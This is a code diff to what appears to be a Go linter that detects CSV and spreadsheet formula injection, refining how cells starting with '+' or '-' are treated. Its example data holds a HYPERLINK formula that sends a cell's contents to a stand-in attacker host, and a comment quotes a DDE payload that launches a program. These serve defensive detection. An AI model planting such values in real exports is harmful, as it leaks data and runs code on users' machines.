@@ -19,8 +19,9 @@ value can read other cells, call out to the network or start programs on the adm
 value is a mistake or an attack: remove it. A GitHub login pasted as "@janedoe" is the common
 mistake: logins are written without the @. Plain numbers such as -7 are not formulas and are
 left to the rules about their field, and so are IDs that merely start with "-" (Harness Code
-IDs may): only a "+" or "-" followed by an operator, parenthesis, quote or space is taken for
-a formula.`,
+IDs may): only a "-" followed by an operator, parenthesis, quote or space is taken for a
+formula. A tab or carriage return counts when one of these characters follows it; a lone
+leading tab is the whitespace rule's.`,
 	Bad: Example{Name: "identities.csv", Text: `email,applicationType,cloudId
 jane.doe@acme.com,GITHUB,"=HYPERLINK(""http://attacker.example/?""&A2,""verify"")"
 john.roe@acme.com,GITHUB,@jroe
@@ -52,10 +53,12 @@ func checkCSVInjection(p *Pass) {
 
 // formula reports whether a spreadsheet would take a cell for a formula that can do harm:
 //   - "=" or "@" first: always;
-//   - "+" or "-" first: when an operator other than "-", a parenthesis, quote or space
-//     follows. Account IDs may start with "-" and hold more (Harness Code's base64url IDs
-//     do), and "-qt_ozk_Upun-GQ..." computes nothing; "-2+3+cmd|' /C calc'!A0" runs a
-//     program. Plain numbers are not formulas;
+//   - "+" first: unless the cell is a plain number. No account ID starts with "+", and a
+//     spreadsheet takes "+cmd" for a formula, which at best turns the cell into an error;
+//   - "-" first: when an operator other than "-", a parenthesis, quote or space follows.
+//     Account IDs may start with "-" and hold more (Harness Code's base64url IDs do), and
+//     "-qt_ozk_Upun-GQ..." computes nothing; "-2+3+cmd|' /C calc'!A0" runs a program. Plain
+//     numbers are not formulas;
 //   - a tab or carriage return first: when one of the above follows it, as OWASP warns; a
 //     lone leading tab is the whitespace rule's.
 func formula(v string) bool {
@@ -66,7 +69,9 @@ func formula(v string) bool {
 	switch v[0] {
 	case '=', '@':
 		return true
-	case '+', '-':
+	case '+':
+		return !isPlainNumber(v)
+	case '-':
 		return !isPlainNumber(v) && strings.ContainsAny(v[1:], "=+*/^&|!()'\"; ,:")
 	}
 	return false
